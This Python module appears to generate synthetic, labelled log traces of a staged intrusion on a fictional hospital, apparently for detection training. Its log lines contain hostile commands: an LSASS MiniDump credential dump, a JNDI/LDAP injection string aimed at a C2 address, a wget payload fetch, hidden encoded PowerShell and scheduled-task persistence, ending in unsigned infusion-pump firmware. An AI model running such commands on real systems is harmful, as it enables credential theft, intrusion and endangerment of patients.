"""The traces that the intrusion leaves in the logs, each labelled with its step."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta

from aegle.packs.sample import formats
from aegle.packs.sample.formats import DOMAIN, Entry
from aegle.packs.sample.intrusion import SERVICE_ACCOUNT, Intrusion
from aegle.packs.sample.logs_network import uid
from aegle.packs.sample.marks import evidence
from aegle.packs.sample.world import Host, World

_OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_DROPPED = r"C:\ProgramData\qd"
# "Start-Sleep 1" in UTF-16 and base64, again and again: a sample must not carry working code.
_HARMLESS = "UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAAMQA7AFMAdABhAHIAdAAtAFMAbABlAGUAcAAgADEA"


def lines(world: World, story: Intrusion) -> Iterator[Entry]:
    """Every line, in no order."""
    yield from _foothold(world, story)
    yield from _credentials(world, story)
    yield from _gateway(world, story)
    yield from _impact(story)


def _seen(step: str, entry: Entry) -> Entry:
    return Entry(entry.path, entry.when, evidence(f"step|{step}", entry.text))


def _event(host: Host, when: datetime, event_id: int, fields: dict[str, str]) -> Entry:
    return Entry(formats.windows_path(host), when, formats.windows(when, host, event_id, fields))


def _process(
    host: Host, when: datetime, user: str, image: str, command: str, parent: str, **more: str
) -> Entry:
    fields = {"Image": image, "CommandLine": command, "ParentImage": parent,
              "User": f"{DOMAIN}\\{user}", "IntegrityLevel": "High", **more}  # fmt: skip
    return _event(host, when, 1, fields)


def _foothold(world: World, story: Intrusion) -> Iterator[Entry]:
    t, entry, clerk = story.times, story.entry, story.clerk.login
    mail = world.host("mail01")
    yield _seen("phish", Entry(
        formats.syslog_path(mail, world.start.year), t["phish"],
        formats.syslog(t["phish"], mail.name, "postfix/smtpd[2211]",
                       f"4F1C82A0: from=<{story.sender}>, to=<{clerk}@stbrigid.example.org>, "
                       f"attachment={story.document}, status=sent (250 2.0.0 Ok)"),
    ))  # fmt: skip
    word = rf"{_OFFICE}\WINWORD.EXE"
    path = rf"C:\Users\{clerk}\Downloads\{story.document}"
    yield _seen(
        "open",
        _process(entry, t["open"], clerk, word, f'"{word}" /n "{path}"', rf"{_OFFICE}\OUTLOOK.EXE"),
    )
    yield _seen("powershell", _process(
        entry, t["powershell"], clerk, _POWERSHELL,
        f"powershell.exe -nop -w hidden -EncodedCommand {_HARMLESS}", word,
        Hashes=f"SHA256={story.loader_sha256.upper()}"))  # fmt: skip
    dropped = {"Image": _POWERSHELL, "TargetFilename": r"C:\ProgramData\qd\svchelp.dll"}
    yield _event(entry, t["powershell"] + timedelta(seconds=6), 11, dropped)
    yield from _beacons(world, story)
    yield _seen("task", _process(
        entry, t["task"], clerk, r"C:\Windows\System32\schtasks.exe",
        f"schtasks /create /tn {evidence('task', story.task)} /sc hourly "
        rf'/tr "rundll32 {_DROPPED}\svchelp.dll"',
        _POWERSHELL))  # fmt: skip


def _beacons(world: World, story: Intrusion) -> Iterator[Entry]:
    rng, entry, when = world.rng("intrusion/beacon"), story.entry, story.times["beacon"]
    first = True
    while when < world.end:
        asked = {"Image": _POWERSHELL, "QueryName": story.domain, "QueryResults": story.c2_ip}
        dns = _event(entry, when, 22, asked)
        yield _seen("beacon", dns) if first else dns
        tunnel = formats.proxy(when + timedelta(seconds=1), entry.ip, "CONNECT",
                               f"{story.domain}:443", 200, rng.randint(900, 5200))  # fmt: skip
        yield Entry("logs/proxy/access.log", when + timedelta(seconds=1), tunnel)
        port = str(rng.randint(49152, 65000))
        row = [uid(rng), entry.ip, port, "10.20.2.53", "53", "udp", story.domain, "A", "NOERROR"]
        yield Entry("logs/zeek/dns.log", when, formats.zeek(when, [*row, story.c2_ip]))
        if first or rng.random() < 0.25:
            out = {"Image": _POWERSHELL, "Initiated": "true", "SourceIp": entry.ip,
                   "Protocol": "tcp", "DestinationIp": story.c2_ip, "DestinationPort": "443",
                   "User": f"{DOMAIN}\\{story.clerk.login}"}  # fmt: skip
            yield _event(entry, when + timedelta(seconds=1), 3, out)
        row = [uid(rng), entry.ip, port, story.c2_ip, "443", "tcp", "ssl",
               f"{rng.uniform(0.4, 3):.6f}", "1180", str(rng.randint(900, 5200)), "SF"]  # fmt: skip
        yield Entry("logs/zeek/conn.log", when, formats.zeek(when, row))
        first, when = (
            False,
            when + timedelta(minutes=rng.randint(41, 53), seconds=rng.randrange(60)),
        )


def _credentials(world: World, story: Intrusion) -> Iterator[Entry]:
    t, entry, console = story.times, story.entry, story.console
    rundll = r"C:\Windows\System32\rundll32.exe"
    yield _seen("dump", _process(
        entry, t["dump"], story.clerk.login, rundll,
        rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 {_DROPPED}\upd.dmp full",
        _POWERSHELL))  # fmt: skip
    wrote = {"Image": rundll, "TargetFilename": r"C:\ProgramData\qd\upd.dmp"}
    yield _event(entry, t["dump"] + timedelta(seconds=3), 11, wrote)
    logon = {"TargetUserName": story.stolen.login, "TargetDomainName": DOMAIN, "LogonType": "3",
             "IpAddress": entry.ip, "WorkstationName": entry.name,
             "AuthenticationPackageName": "NTLM"}  # fmt: skip
    yield _event(console, t["psexec"] - timedelta(seconds=2), 4624, logon)
    services = r"C:\Windows\System32\services.exe"
    yield _seen("psexec", _process(
        console, t["psexec"], story.stolen.login, r"C:\Windows\PSEXESVC.exe",
        r"C:\Windows\PSEXESVC.exe", services))  # fmt: skip
    yield _event(
        console,
        t["psexec"] + timedelta(seconds=5),
        4688,
        {
            "NewProcessName": r"C:\Windows\System32\cmd.exe",
            "SubjectUserName": story.stolen.login,
            "ParentProcessName": r"C:\Windows\PSEXESVC.exe",
            "CommandLine": "cmd.exe /c whoami /all",
        },
    )
    rng, when, first = world.rng("intrusion/scan"), t["scan"], True
    for host in world.hosts:
        for port in ("22", "443", "8443") if host.service == "pump-gateway" else ():
            row = [uid(rng), console.ip, str(rng.randint(49152, 65000)), host.ip, port, "tcp", "-",
                   "0.000512", "0", "0", "S0" if port == "443" else "RSTO"]  # fmt: skip
            found = Entry("logs/zeek/conn.log", when, formats.zeek(when, row))
            yield _seen("scan", found) if first else found
            first, when = False, when + timedelta(milliseconds=rng.randint(20, 400))


def _gateway(world: World, story: Intrusion) -> Iterator[Entry]:
    t, gateway, console = story.times, story.gateway, story.console
    path = formats.syslog_path(gateway, world.start.year)
    lookup = f"${{jndi:ldap://{story.c2_ip}:1389/a}}"
    request = f'login failed for user "{lookup}" from {console.ip}'
    yield _seen(
        "exploit",
        Entry(
            path,
            t["exploit"],
            formats.syslog(t["exploit"], gateway.name, "pump-gateway[913]", request),
        ),
    )
    row = [uid(world.rng("intrusion/ldap")), gateway.ip, "41822", story.c2_ip, "1389", "tcp", "-",
           "0.221000", "14", "122", "SF"]  # fmt: skip
    yield Entry("logs/zeek/conn.log", t["exploit"], formats.zeek(t["exploit"], row))
    when = t["ssh"]
    accepted = evidence("ssh", f"Accepted password for {SERVICE_ACCOUNT} from {console.ip}")
    yield _seen(
        "ssh",
        Entry(
            path,
            when,
            formats.syslog(when, gateway.name, "sshd[4471]", f"{accepted} port 50112 ssh2"),
        ),
    )
    opened = f"pam_unix(sshd:session): session opened for user {SERVICE_ACCOUNT} by (uid=0)"
    yield Entry(path, when, formats.syslog(when, gateway.name, "sshd[4471]", opened))
    when = t["transfer"]
    fetched = f"https://{story.domain}/lib/ratelib.bin -O /opt/infuselink/ratelib.bin"
    command = f"COMMAND=/usr/bin/wget {fetched}"
    yield _seen(
        "transfer",
        Entry(
            path,
            when,
            formats.syslog(
                when,
                gateway.name,
                "sudo",
                f"{SERVICE_ACCOUNT} : TTY=pts/0 ; PWD=/opt/infuselink ; USER=root ; {command}",
            ),
        ),
    )


def _impact(story: Intrusion) -> Iterator[Entry]:
    t, host, pump = story.times, story.gateway.name, story.victim.pump
    path = "logs/devices/pump-gateway.log"

    def line(when: datetime, kind: str, text: str, severity: int) -> Entry:
        said = formats.syslog5424(when, host, "infuselink", kind, text, severity=severity)
        return Entry(path, when, said)

    changed = f"drug library replaced by {SERVICE_ACCOUNT} on {host}: ratelib.bin signature missing"
    yield _seen("config", line(t["config"], "CONFIG", evidence("config", changed), 4))
    pushed = (
        f"firmware push started by {SERVICE_ACCOUNT} to {pump.tag} in {pump.ward}: image unsigned"
    )
    yield _seen("firmware", line(t["firmware"], "FIRMWARE", evidence("firmware", pushed), 4))
    said = evidence("alarm", f"{pump.tag} {pump.ward} ALARM E-217 rate deviation")
    for number in range(4):
        when = t["alarm"] + timedelta(minutes=3 * number)
        alarm = line(when, "ALARM", said, 2)
        yield _seen("alarm", alarm) if number == 0 else alarm
